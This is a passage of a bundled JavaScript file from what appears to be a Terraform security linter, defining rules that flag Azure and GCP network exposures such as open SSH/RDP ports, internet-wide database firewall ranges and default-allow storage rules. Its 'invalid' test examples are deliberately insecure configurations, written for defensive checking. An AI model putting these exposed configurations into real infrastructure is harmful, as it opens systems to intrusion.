  // Flexible servers derive it from their networking mode; only an explicit true is certain.
  azurerm_mysql_flexible_server: { service: "MySQL flexible server", publicByDefault: false },
  azurerm_postgresql_flexible_server: { service: "PostgreSQL flexible server", publicByDefault: false }
};
var azure_database_public_network_access_default = defineRule({
  meta: {
    id: "azure-database-public-network-access",
    title: "Database server has public network access enabled",
    severity: "medium",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: Object.keys(SERVERS2),
    description: "The server has a public endpoint reachable from the internet, and only its firewall rules and credentials stand between it and attackers. Single servers (SQL, MySQL, PostgreSQL, MariaDB) are publicly accessible unless `public_network_access_enabled = false` is set.",
    remediation: "Set `public_network_access_enabled = false` and connect through a private endpoint or VNet integration; if a public endpoint is unavoidable, keep the firewall rules to known addresses.",
    precision: "high",
    cwe: ["CWE-284"],
    tags: ["azure", "database", "network-exposure"],
    references: [
      "https://learn.microsoft.com/azure/azure-sql/database/connectivity-settings",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/mssql_server#public_network_access_enabled",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/postgresql_server#public_network_access_enabled"
    ]
  },
  check(server, { report }) {
    const { service, publicByDefault } = SERVERS2[server.type];
    const enabled = server.attributes.public_network_access_enabled;
    if (enabled === true) {
      report({ at: ["public_network_access_enabled"], message: `${service} ${server.name} is publicly accessible: public network access is enabled` });
    } else if (enabled === void 0 && publicByDefault) {
      report({ message: `${service} ${server.name} is publicly accessible: public_network_access_enabled is not set and defaults to true` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_postgresql_server" "orders" {
  name                          = "psql-orders"
  location                      = "westeurope"
  resource_group_name           = "rg-orders"
  sku_name                      = "GP_Gen5_2"
  version                       = "11"
  ssl_enforcement_enabled       = true
  public_network_access_enabled = false
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_mysql_server" "orders" {
  name                          = "mysql-orders"
  location                      = "westeurope"
  resource_group_name           = "rg-orders"
  sku_name                      = "GP_Gen5_2"
  version                       = "8.0"
  ssl_enforcement_enabled       = true
  public_network_access_enabled = true
}
`,
        errors: [{ line: 8, column: 3 }]
      },
      {
        name: "not set on a single server",
        filename: "main.tf",
        code: `resource "azurerm_mssql_server" "orders" {
  name                = "sql-orders"
  location            = "westeurope"
  resource_group_name = "rg-orders"
  version             = "12.0"
  minimum_tls_version = "1.2"
}
`,
        errors: [{ line: 1, column: 1, messageIncludes: "defaults to true" }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/azure-key-vault-network-default-allow.ts
var azure_key_vault_network_default_allow_default = defineRule({
  meta: {
    id: "azure-key-vault-network-default-allow",
    title: "Key Vault reachable from all networks (no network ACLs or default action Allow)",
    severity: "low",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["azurerm_key_vault"],
    description: "Without `network_acls` denying by default, the vault's public endpoint accepts requests from any network. Access policies or RBAC still apply, but a stolen token or client secret can then be used from anywhere on the internet.",
    remediation: 'Add `network_acls { default_action = "Deny", bypass = "AzureServices" }` with the `ip_rules` and `virtual_network_subnet_ids` that need access, or set `public_network_access_enabled = false` and use a private endpoint.',
    precision: "high",
    cwe: ["CWE-284"],
    tags: ["azure", "key-vault", "network-exposure"],
    references: [
      "https://learn.microsoft.com/azure/key-vault/general/network-security",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/key_vault#network_acls"
    ]
  },
  check(vault, { report }) {
    const attributes = vault.attributes;
    if (attributes.public_network_access_enabled === false || isUnknown(attributes.public_network_access_enabled)) return;
    if (isUnknown(attributes.network_acls)) return;
    const acls = asList(attributes.network_acls);
    if (acls.length === 0) {
      report({ message: `Key Vault ${vault.name} has no network ACLs: its public endpoint is reachable from all networks` });
      return;
    }
    acls.forEach((acl, index) => {
      if (isObject(acl) && acl.default_action === "Allow") {
        report({ at: ["network_acls", index, "default_action"], message: `Key Vault ${vault.name} network ACLs allow public access from all networks (default_action = "Allow")` });
      }
    });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_key_vault" "build" {
  name                     = "kv-build"
  location                 = "westeurope"
  resource_group_name      = "rg-build"
  tenant_id                = var.tenant_id
  sku_name                 = "standard"
  purge_protection_enabled = true

  network_acls {
    default_action = "Deny"
    bypass         = "AzureServices"
    ip_rules       = ["203.0.113.0/28"]
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_key_vault" "build" {
  name                     = "kv-build"
  location                 = "westeurope"
  resource_group_name      = "rg-build"
  tenant_id                = var.tenant_id
  sku_name                 = "standard"
  purge_protection_enabled = true

  network_acls {
    default_action = "Allow"
    bypass         = "AzureServices"
  }
}
`,
        errors: [{ line: 10, column: 5 }]
      },
      {
        name: "no network_acls",
        filename: "main.tf",
        code: `resource "azurerm_key_vault" "build" {
  name                     = "kv-build"
  location                 = "westeurope"
  resource_group_name      = "rg-build"
  tenant_id                = var.tenant_id
  sku_name                 = "standard"
  purge_protection_enabled = true
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/support/open-ports.ts
var REMOTE_ADMIN_PORTS = /* @__PURE__ */ new Map([
  [22, "SSH"],
  [3389, "RDP"]
]);
function classifyExposure(ranges) {
  if (ranges.some((range) => range.from <= 1 && range.to >= 65535)) return { kind: "all-ports" };
  const admin = [...REMOTE_ADMIN_PORTS].filter(([port]) => ranges.some((range) => port >= range.from && port <= range.to));
  if (admin.length > 0) return { kind: "remote-admin", ports: admin.map(([port, name]) => ({ port, name })) };
  const sensitive = /* @__PURE__ */ new Map();
  for (const range of ranges) for (const { port, name } of sensitivePortsIn(range.from, range.to)) sensitive.set(port, name);
  if (sensitive.size > 0) return { kind: "sensitive", ports: [...sensitive].sort(([a], [b]) => a - b).map(([port, name]) => ({ port, name })) };
  return void 0;
}
function describePorts2(ports) {
  return ports.map(({ port, name }) => `${port} (${name})`).join(", ");
}

// packages/rules/src/terraform/networking/azure-nsg-all-ports-open-to-internet.ts
var azure_nsg_all_ports_open_to_internet_default = defineRule({
  meta: {
    id: "azure-nsg-all-ports-open-to-internet",
    title: "Network security group allows all ports from the internet",
    severity: "critical",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: NETWORK_SECURITY_TYPES,
    description: "An inbound Allow rule opens every destination port (`*` or `0-65535`) to any source on the internet. Every service on the machines behind it, including management agents and databases never meant to be public, becomes reachable.",
    remediation: "Replace the rule with rules for the specific ports the service offers, and restrict their sources to the networks that need them.",
    precision: "very-high",
    cwe: ["CWE-284"],
    tags: ["azure", "nsg", "network-exposure"],
    references: [
      "https://learn.microsoft.com/azure/virtual-network/network-security-groups-overview",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/network_security_group"
    ]
  },
  check(group, { report }) {
    for (const rule of openInboundRules(group)) {
      if (classifyExposure(rule.ranges)?.kind !== "all-ports") continue;
      report({ at: rule.at, message: `${group.name}: inbound rule ${rule.label} opens all ports to the internet (source ${rule.source})` });
    }
  },
  examples: {
    valid: [
      {
        name: "all ports, but only from the virtual network",
        filename: "main.tf",
        code: `resource "azurerm_network_security_rule" "vnet" {
  name                        = "vnet-inbound"
  priority                    = 100
  direction                   = "Inbound"
  access                      = "Allow"
  protocol                    = "*"
  source_port_range           = "*"
  destination_port_range      = "*"
  source_address_prefix       = "VirtualNetwork"
  destination_address_prefix  = "*"
  resource_group_name         = "rg-app"
  network_security_group_name = "nsg-app"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_network_security_group" "app" {
  name                = "nsg-app"
  location            = "westeurope"
  resource_group_name = "rg-app"

  security_rule {
    name                       = "any"
    priority                   = 100
    direction                  = "Inbound"
    access                     = "Allow"
    protocol                   = "*"
    source_port_range          = "*"
    destination_port_range     = "*"
    source_address_prefix      = "*"
    destination_address_prefix = "*"
  }
}
`,
        errors: [{ line: 14, column: 5 }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/azure-nsg-sensitive-port-open-to-internet.ts
var azure_nsg_sensitive_port_open_to_internet_default = defineRule({
  meta: {
    id: "azure-nsg-sensitive-port-open-to-internet",
    title: "Network security group opens a database or administration port to the internet",
    severity: "high",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: NETWORK_SECURITY_TYPES,
    description: "An inbound Allow rule lets any internet source reach a port used by a database, a cache, a cluster service or a remote administration protocol other than SSH and RDP (SQL Server, PostgreSQL, MySQL, Redis, WinRM, SMB, the Kubernetes API…). These services are rarely meant to be public and are among the first things attackers probe.",
    remediation: "Restrict the rule's source to the application subnets or known networks, and reach data services through private endpoints or VNet integration.",
    precision: "high",
    cwe: ["CWE-284"],
    tags: ["azure", "nsg", "network-exposure"],
    references: [
      "https://learn.microsoft.com/azure/virtual-network/network-security-groups-overview",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/network_security_rule"
    ]
  },
  check(group, { report }) {
    for (const rule of openInboundRules(group)) {
      const exposure = classifyExposure(rule.ranges);
      if (exposure?.kind !== "sensitive") continue;
      report({ at: rule.at, message: `${group.name}: inbound rule ${rule.label} opens ${describePorts2(exposure.ports)} to the internet (source ${rule.source})` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_network_security_rule" "sql" {
  name                        = "sql-from-app"
  priority                    = 100
  direction                   = "Inbound"
  access                      = "Allow"
  protocol                    = "Tcp"
  source_port_range           = "*"
  destination_port_range      = "1433"
  source_address_prefix       = "10.20.1.0/24"
  destination_address_prefix  = "*"
  resource_group_name         = "rg-data"
  network_security_group_name = "nsg-data"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_network_security_rule" "postgres" {
  name                        = "postgres"
  priority                    = 100
  direction                   = "Inbound"
  access                      = "Allow"
  protocol                    = "Tcp"
  source_port_range           = "*"
  destination_port_range      = "5432"
  source_address_prefix       = "Internet"
  destination_address_prefix  = "*"
  resource_group_name         = "rg-data"
  network_security_group_name = "nsg-data"
}
`,
        errors: [{ line: 9, column: 3, messageIncludes: "5432 (PostgreSQL)" }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/azure-nsg-ssh-rdp-open-to-internet.ts
var azure_nsg_ssh_rdp_open_to_internet_default = defineRule({
  meta: {
    id: "azure-nsg-ssh-rdp-open-to-internet",
    title: "Network security group allows SSH or RDP from the internet",
    severity: "critical",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: NETWORK_SECURITY_TYPES,
    description: "An inbound Allow rule lets any source (`*`, `Internet`, `0.0.0.0/0`) reach port 22 (SSH) or 3389 (RDP). Both are scanned and brute-forced continuously; one weak password or unpatched service gives an attacker a shell on the machine.",
    remediation: "Restrict `source_address_prefix` to known administration networks, or remove the rule and connect through Azure Bastion, a VPN or just-in-time VM access.",
    precision: "very-high",
    cwe: ["CWE-284"],
    frameworks: { "CIS Microsoft Azure Foundations 2.0": ["6.1", "6.2"] },
    tags: ["azure", "nsg", "network-exposure", "ssh", "rdp"],
    references: [
      "https://learn.microsoft.com/azure/virtual-network/network-security-groups-overview",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/network_security_rule"
    ]
  },
  check(group, { report }) {
    for (const rule of openInboundRules(group)) {
      const exposure = classifyExposure(rule.ranges);
      if (exposure?.kind !== "remote-admin") continue;
      report({ at: rule.at, message: `${group.name}: inbound rule ${rule.label} opens ${describePorts2(exposure.ports)} to the internet (source ${rule.source})` });
    }
  },
  examples: {
    valid: [
      {
        name: "SSH only from the office range; HTTPS from anywhere",
        filename: "main.tf",
        code: `resource "azurerm_network_security_group" "web" {
  name                = "nsg-web"
  location            = "westeurope"
  resource_group_name = "rg-web"

  security_rule {
    name                       = "ssh-office"
    priority                   = 100
    direction                  = "Inbound"
    access                     = "Allow"
    protocol                   = "Tcp"
    source_port_range          = "*"
    destination_port_range     = "22"
    source_address_prefix      = "198.51.100.0/24"
    destination_address_prefix = "*"
  }

  security_rule {
    name                       = "https"
    priority                   = 110
    direction                  = "Inbound"
    access                     = "Allow"
    protocol                   = "Tcp"
    source_port_range          = "*"
    destination_port_range     = "443"
    source_address_prefix      = "Internet"
    destination_address_prefix = "*"
  }
}
`
      },
      {
        name: "a Deny rule from anywhere",
        filename: "main.tf",
        code: `resource "azurerm_network_security_rule" "deny_rdp" {
  name                        = "deny-rdp"
  priority                    = 4000
  direction                   = "Inbound"
  access                      = "Deny"
  protocol                    = "Tcp"
  source_port_range           = "*"
  destination_port_range      = "3389"
  source_address_prefix       = "*"
  destination_address_prefix  = "*"
  resource_group_name         = "rg-web"
  network_security_group_name = "nsg-web"
}
`
      }
    ],
    invalid: [
      {
        name: "inline rules for SSH and RDP",
        filename: "main.tf",
        code: `resource "azurerm_network_security_group" "jump" {
  name                = "nsg-jump"
  location            = "westeurope"
  resource_group_name = "rg-ops"

  security_rule {
    name                       = "ssh"
    priority                   = 100
    direction                  = "Inbound"
    access                     = "Allow"
    protocol                   = "Tcp"
    source_port_range          = "*"
    destination_port_range     = "22"
    source_address_prefix      = "*"
    destination_address_prefix = "*"
  }

  security_rule {
    name                       = "rdp"
    priority                   = 110
    direction                  = "Inbound"
    access                     = "Allow"
    protocol                   = "Tcp"
    source_port_range          = "*"
    destination_port_ranges    = ["3389"]
    source_address_prefix      = "Internet"
    destination_address_prefix = "*"
  }
}
`,
        errors: [
          { line: 14, column: 5, messageIncludes: "22 (SSH)" },
          { line: 26, column: 5, messageIncludes: "3389 (RDP)" }
        ]
      },
      {
        name: "separate rule with a port range",
        filename: "main.tf",
        code: `resource "azurerm_network_security_rule" "admin" {
  name                        = "admin"
  priority                    = 200
  direction                   = "Inbound"
  access                      = "Allow"
  protocol                    = "Tcp"
  source_port_range           = "*"
  destination_port_range      = "20-25"
  source_address_prefixes     = ["10.0.0.0/8", "0.0.0.0/0"]
  destination_address_prefix  = "*"
  resource_group_name         = "rg-ops"
  network_security_group_name = "nsg-ops"
}
`,
        errors: [{ line: 9, column: 48 }]
      }
    ]
  }
});

// packages/rules/src/support/postgresql-configuration.ts
var POSTGRESQL_CONFIGURATION_TYPES = ["azurerm_postgresql_configuration", "azurerm_postgresql_flexible_server_configuration"];
function isOffSetting(value) {
  if (value === false || value === 0) return true;
  return typeof value === "string" && ["off", "false", "0"].includes(value.trim().toLowerCase());
}
function parameterTurnedOff(resource, names) {
  const { name, value } = resource.attributes;
  if (typeof name !== "string") return void 0;
  const parameter = name.trim().toLowerCase();
  return names.includes(parameter) && isOffSetting(value) ? parameter : void 0;
}

// packages/rules/src/terraform/networking/azure-postgresql-connection-throttling-disabled.ts
var azure_postgresql_connection_throttling_disabled_default = defineRule({
  meta: {
    id: "azure-postgresql-connection-throttling-disabled",
    title: "PostgreSQL connection throttling turned off",
    severity: "low",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: POSTGRESQL_CONFIGURATION_TYPES,
    description: "Connection throttling makes Azure Database for PostgreSQL slow down clients after repeated failed logins from the same address. It is a network-facing defence: turned off, password guessing and connection floods against the server endpoint run at full speed.",
    remediation: 'Remove the configuration resource or set its `value = "on"` (`connection_throttling` on single server, `connection_throttle.enable` on flexible server).',
    precision: "very-high",
    cwe: ["CWE-307"],
    frameworks: { "CIS Azure 1.3.0": ["4.3.5"] },
    tags: ["azure", "postgresql", "database", "brute-force", "throttling"],
    references: [
      "https://learn.microsoft.com/azure/postgresql/single-server/concepts-server-parameters",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/postgresql_configuration"
    ]
  },
  check(configuration, { report }) {
    const parameter = parameterTurnedOff(configuration, ["connection_throttling", "connection_throttle.enable"]);
    if (!parameter) return;
    report({ at: ["value"], message: `PostgreSQL connection throttling (${parameter}) is turned off by ${configuration.name}: repeated failed logins are not slowed down` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_postgresql_configuration" "throttling" {
  name                = "connection_throttling"
  resource_group_name = "rg-crm"
  server_name         = azurerm_postgresql_server.crm.name
  value               = "on"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_postgresql_configuration" "throttling" {
  name                = "connection_throttling"
  resource_group_name = "rg-crm"
  server_name         = azurerm_postgresql_server.crm.name
  value               = "off"
}
`,
        errors: [{ line: 5, column: 3, messageIncludes: "throttling" }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/azure-sql-firewall-open-to-internet.ts
var FIREWALL_RULE_TYPES = [
  "azurerm_sql_firewall_rule",
  "azurerm_mssql_firewall_rule",
  "azurerm_mysql_firewall_rule",
  "azurerm_mysql_flexible_server_firewall_rule",
  "azurerm_postgresql_firewall_rule",
  "azurerm_postgresql_flexible_server_firewall_rule",
  "azurerm_mariadb_firewall_rule"
];
var INTERNET_SPAN = 2 ** 31;
function ipv4ToNumber(value) {
  if (typeof value !== "string") return void 0;
  const parts = value.trim().split(".");
  if (parts.length !== 4 || !parts.every((part) => /^\d{1,3}$/.test(part) && Number(part) <= 255)) return void 0;
  return parts.reduce((total, part) => total * 256 + Number(part), 0);
}
var azure_sql_firewall_open_to_internet_default = defineRule({
  meta: {
    id: "azure-sql-firewall-open-to-internet",
    title: "Database firewall rule allows the whole internet (0.0.0.0-255.255.255.255)",
    severity: "critical",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: FIREWALL_RULE_TYPES,
    description: "A server-level firewall rule whose range spans the IPv4 internet (such as `0.0.0.0` to `255.255.255.255`) lets any host connect to the database endpoint, leaving only the login between the data and password-spraying attackers. The `0.0.0.0`–`0.0.0.0` rule that admits Azure services is not reported.",
    remediation: "Replace the rule with the specific client addresses that need access, or disable public network access and use a private endpoint.",
    precision: "very-high",
    cwe: ["CWE-284"],
    frameworks: { "CIS Microsoft Azure Foundations 2.0": ["4.1.2"] },
    tags: ["azure", "database", "network-exposure", "firewall"],
    references: [
      "https://learn.microsoft.com/azure/azure-sql/database/firewall-configure",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/mssql_firewall_rule"
    ]
  },
  check(rule, { report }) {
    const start = ipv4ToNumber(rule.attributes.start_ip_address);
    const end = ipv4ToNumber(rule.attributes.end_ip_address);
    if (start === void 0 || end === void 0 || end - start + 1 < INTERNET_SPAN) return;
    report({
      at: ["start_ip_address"],
      message: `Firewall rule ${rule.name} opens the database to the internet (${String(rule.attributes.start_ip_address)} to ${String(rule.attributes.end_ip_address)})`
    });
  },
  examples: {
    valid: [
      {
        name: "one client address",
        filename: "main.tf",
        code: `resource "azurerm_mssql_firewall_rule" "office" {
  name             = "office"
  server_id        = azurerm_mssql_server.orders.id
  start_ip_address = "203.0.113.24"
  end_ip_address   = "203.0.113.24"
}
`
      },
      {
        name: "Azure services",
        filename: "main.tf",
        code: `resource "azurerm_mssql_firewall_rule" "azure" {
  name             = "AllowAzureServices"
  server_id        = azurerm_mssql_server.orders.id
  start_ip_address = "0.0.0.0"
  end_ip_address   = "0.0.0.0"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_postgresql_firewall_rule" "everyone" {
  name                = "everyone"
  resource_group_name = "rg-orders"
  server_name         = azurerm_postgresql_server.orders.name
  start_ip_address    = "0.0.0.0"
  end_ip_address      = "255.255.255.255"
}
`,
        errors: [{ line: 5, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/azure-storage-network-default-allow.ts
var azure_storage_network_default_allow_default = defineRule({
  meta: {
    id: "azure-storage-network-default-allow",
    title: "Storage account network rules allow access from all networks (default action Allow)",
    severity: "medium",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["azurerm_storage_account", "azurerm_storage_account_network_rules"],
    description: 'With `default_action = "Allow"` the storage firewall admits connections from any network, including the public internet, and the IP and subnet rules beside it restrict nothing. A leaked key or SAS token is then usable from anywhere.',
    remediation: 'Set `default_action = "Deny"` and list the networks that need access in `ip_rules` and `virtual_network_subnet_ids`, or reach the account through a private endpoint.',
    precision: "very-high",
    cwe: ["CWE-284"],
    tags: ["azure", "storage", "network-exposure"],
    references: [
      "https://learn.microsoft.com/azure/storage/common/storage-network-security",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/storage_account_network_rules"
    ]
  },
  check(resource, { report }) {
    const message = `Storage account network rules of ${resource.name} allow public access from all networks (default_action = "Allow")`;
    if (resource.type === "azurerm_storage_account_network_rules") {
      if (resource.attributes.default_action === "Allow") report({ at: ["default_action"], message });
      return;
    }
    asList(resource.attributes.network_rules).forEach((rules, index) => {
      if (isObject(rules) && rules.default_action === "Allow") report({ at: ["network_rules", index, "default_action"], message });
    });
  },
  examples: {
    valid: [
      {
        name: "separate network rules that deny by default",
        filename: "main.tf",
        code: `resource "azurerm_storage_account_network_rules" "exports" {
  storage_account_id = azurerm_storage_account.exports.id
  default_action     = "Deny"
  ip_rules           = ["203.0.113.10"]
  bypass             = ["AzureServices"]
}
`
      }
    ],
    invalid: [
      {
        name: "inline network_rules",
        filename: "main.tf",
        code: `resource "azurerm_storage_account" "exports" {
  name                     = "contosoexports"
  resource_group_name      = "rg-data"
  location                 = "westeurope"
  account_tier             = "Standard"
  account_replication_type = "LRS"

  network_rules {
    default_action = "Allow"
    ip_rules       = ["203.0.113.10"]
  }
}
`,
        errors: [{ line: 9, column: 5 }]
      },
      {
        name: "separate resource",
        filename: "main.tf",
        code: `resource "azurerm_storage_account_network_rules" "exports" {
  storage_account_id = azurerm_storage_account.exports.id
  default_action     = "Allow"
}
`,
        errors: [{ line: 3, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/gcp-compute-ip-forwarding.ts
var gcp_compute_ip_forwarding_default = defineRule({
  meta: {
    id: "gcp-compute-ip-forwarding",
    title: "Compute Engine instance has IP forwarding enabled",
    severity: "low",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["google_compute_instance", "google_compute_instance_template", "google_compute_region_instance_template"],
    description: "`can_ip_forward = true` lets the VM send and receive packets for addresses that are not its own, so it can route or spoof traffic between networks. Only NAT gateways, firewalls and similar appliances need it.",
    remediation: "Set `can_ip_forward = false` unless the instance is a network appliance; prefer Cloud NAT and Cloud Router to routing VMs.",
    precision: "high",
    cwe: ["CWE-923"],
    frameworks: { "CIS Google Cloud Platform Foundation 2.0": ["4.6"] },
    tags: ["gcp", "compute", "ip-forwarding"],
    references: [
      "https://cloud.google.com/vpc/docs/using-routes#canipforward",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_instance#can_ip_forward"
    ]
  },
  check(instance, { report }) {
    if (instance.attributes.can_ip_forward === true) {
      report({ at: ["can_ip_forward"], message: `${instance.name} has IP forwarding enabled (can_ip_forward = true)` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_compute_instance" "app" {
  name           = "app-1"
  machine_type   = "e2-medium"
  zone           = "europe-west1-b"
  can_ip_forward = false

  network_interface {
    subnetwork = google_compute_subnetwork.private.id
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_compute_instance" "app" {
  name           = "app-1"
  machine_type   = "e2-medium"
  zone           = "europe-west1-b"
  can_ip_forward = true

  network_interface {
    subnetwork = google_compute_subnetwork.private.id
  }
}
`,
        errors: [{ line: 5, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/gcp-compute-public-ip.ts
var gcp_compute_public_ip_default = defineRule({
  meta: {
    id: "gcp-compute-public-ip",
    title: "Compute Engine instance has a public IP address",
    severity: "low",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["google_compute_instance", "google_compute_instance_template", "google_compute_region_instance_template"],
    description: "An `access_config` block on a network interface gives the VM an external (public) IP address. Its services are then reachable from the internet wherever a firewall rule allows it, and one permissive rule is enough to expose them.",
    remediation: "Remove `access_config` and reach the instance through Cloud NAT for outbound traffic and a load balancer or Identity-Aware Proxy for inbound access.",
    precision: "high",
    cwe: ["CWE-668"],
    frameworks: { "CIS Google Cloud Platform Foundation 2.0": ["4.9"] },
    tags: ["gcp", "compute", "network-exposure", "public-ip"],
    references: [
      "https://cloud.google.com/compute/docs/ip-addresses#externaladdresses",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_instance#access_config"
    ]
  },
  check(instance, { report }) {
    asList(instance.attributes.network_interface).forEach((nic, index) => {
      if (!isObject(nic) || asList(nic.access_config).length === 0) return;
      report({ at: ["network_interface", index, "access_config", 0], message: `${instance.name} has a public IP address (access_config on network interface ${index})` });
    });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_compute_instance" "batch" {
  name         = "batch-1"
  machine_type = "e2-standard-4"
  zone         = "europe-west1-b"

  network_interface {
    subnetwork = google_compute_subnetwork.private.id
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_compute_instance" "batch" {
  name         = "batch-1"
  machine_type = "e2-standard-4"
  zone         = "europe-west1-b"

  network_interface {
    subnetwork = google_compute_subnetwork.public.id
    access_config {}
  }
}
`,
        errors: [{ line: 8, column: 5 }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/gcp-firewall-all-ports-open-to-internet.ts
var gcp_firewall_all_ports_open_to_internet_default = defineRule({
  meta: {
    id: "gcp-firewall-all-ports-open-to-internet",
    title: "VPC firewall rule allows all ports from the internet (0.0.0.0/0)",
    severity: "critical",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["google_compute_firewall"],
    description: "An ingress rule admits `0.0.0.0/0` on every port (protocol `all`, a protocol without `ports`, or `0-65535`). Every service on the targeted VMs, including management agents and databases never meant to be public, is reachable from the internet.",
    remediation: "Allow only the ports the service offers, and restrict `source_ranges` (or use `source_tags` / service accounts) to the clients that need them.",
    precision: "very-high",
    cwe: ["CWE-284"],
    tags: ["gcp", "firewall", "network-exposure"],
    references: [
      "https://cloud.google.com/firewall/docs/firewalls",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_firewall"
    ]
  },
  check(firewall, { report }) {
    const open = openFirewallIngress(firewall);
    if (!open || classifyExposure(open.ranges)?.kind !== "all-ports") return;
    report({ at: open.at, message: `Firewall rule ${firewall.name} opens all ports to the internet (${open.cidr})` });
  },
  examples: {
    valid: [
      {
        name: "all ports, internal ranges only",
        filename: "main.tf",
        code: `resource "google_compute_firewall" "internal" {
  name          = "allow-internal"
  network       = google_compute_network.main.id
  source_ranges = ["10.128.0.0/9"]

  allow {
    protocol = "all"
  }
}
`
      },
      {
        name: "egress",
        filename: "main.tf",
        code: `resource "google_compute_firewall" "egress" {
  name               = "allow-egress"
  network            = google_compute_network.main.id
  direction          = "EGRESS"
  destination_ranges = ["0.0.0.0/0"]

  allow {
    protocol = "tcp"
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_compute_firewall" "everything" {
  name          = "allow-everything"
  network       = google_compute_network.main.id
  source_ranges = ["0.0.0.0/0"]

  allow {
    protocol = "tcp"
    ports    = ["0-65535"]
  }
}
`,
        errors: [{ line: 4, column: 20 }]
      },
      {
        name: "protocol without ports",
        filename: "main.tf",
        code: `resource "google_compute_firewall" "udp" {
  name          = "allow-udp"
  network       = google_compute_network.main.id
  source_ranges = ["10.0.0.0/8", "0.0.0.0/0"]

  allow {
    protocol = "udp"
  }
}
`,
        errors: [{ line: 4, column: 34 }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/gcp-firewall-sensitive-port-open-to-internet.ts
var gcp_firewall_sensitive_port_open_to_internet_default = defineRule({
  meta: {
    id: "gcp-firewall-sensitive-port-open-to-internet",
    title: "VPC firewall rule opens a database or administration port to the internet (0.0.0.0/0)",
    severity: "high",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["google_compute_firewall"],
    description: "An ingress rule admits `0.0.0.0/0` to a port used by a database, a cache, a cluster service or a remote administration protocol other than SSH and RDP (PostgreSQL, MySQL, Redis, Elasticsearch, the Kubernetes API, WinRM…). These services are rarely meant to be public and are among the first things attackers probe.",
    remediation: "Restrict `source_ranges` to the networks that need the service, or reach it over private IPs, Private Service Connect or a VPN.",
    precision: "high",
    cwe: ["CWE-284"],
    tags: ["gcp", "firewall", "network-exposure"],
    references: [
      "https://cloud.google.com/firewall/docs/firewalls",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_firewall"
    ]
  },
  check(firewall, { report }) {
    const open = openFirewallIngress(firewall);
    const exposure = open && classifyExposure(open.ranges);
    if (!open || exposure?.kind !== "sensitive") return;
    report({ at: open.at, message: `Firewall rule ${firewall.name} opens ${describePorts2(exposure.ports)} to the internet (${open.cidr})` });
  },
  examples: {
    valid: [
      {
        name: "HTTPS from anywhere",
        filename: "main.tf",
        code: `resource "google_compute_firewall" "web" {
  name          = "allow-https"
  network       = google_compute_network.main.id
  source_ranges = ["0.0.0.0/0"]
  target_tags   = ["web"]

  allow {
    protocol = "tcp"
    ports    = ["443"]
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_compute_firewall" "db" {
  name          = "allow-postgres"
  network       = google_compute_network.main.id
  source_ranges = ["0.0.0.0/0"]
  target_tags   = ["db"]

  allow {
    protocol = "tcp"
    ports    = ["5432", "6379"]
  }
}
`,
        errors: [{ line: 4, column: 20, messageIncludes: "5432 (PostgreSQL), 6379 (Redis)" }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/gcp-firewall-ssh-rdp-open-to-internet.ts
var gcp_firewall_ssh_rdp_open_to_internet_default = defineRule({
  meta: {
    id: "gcp-firewall-ssh-rdp-open-to-internet",
    title: "VPC firewall rule allows SSH or RDP from the internet (0.0.0.0/0)",
    severity: "critical",
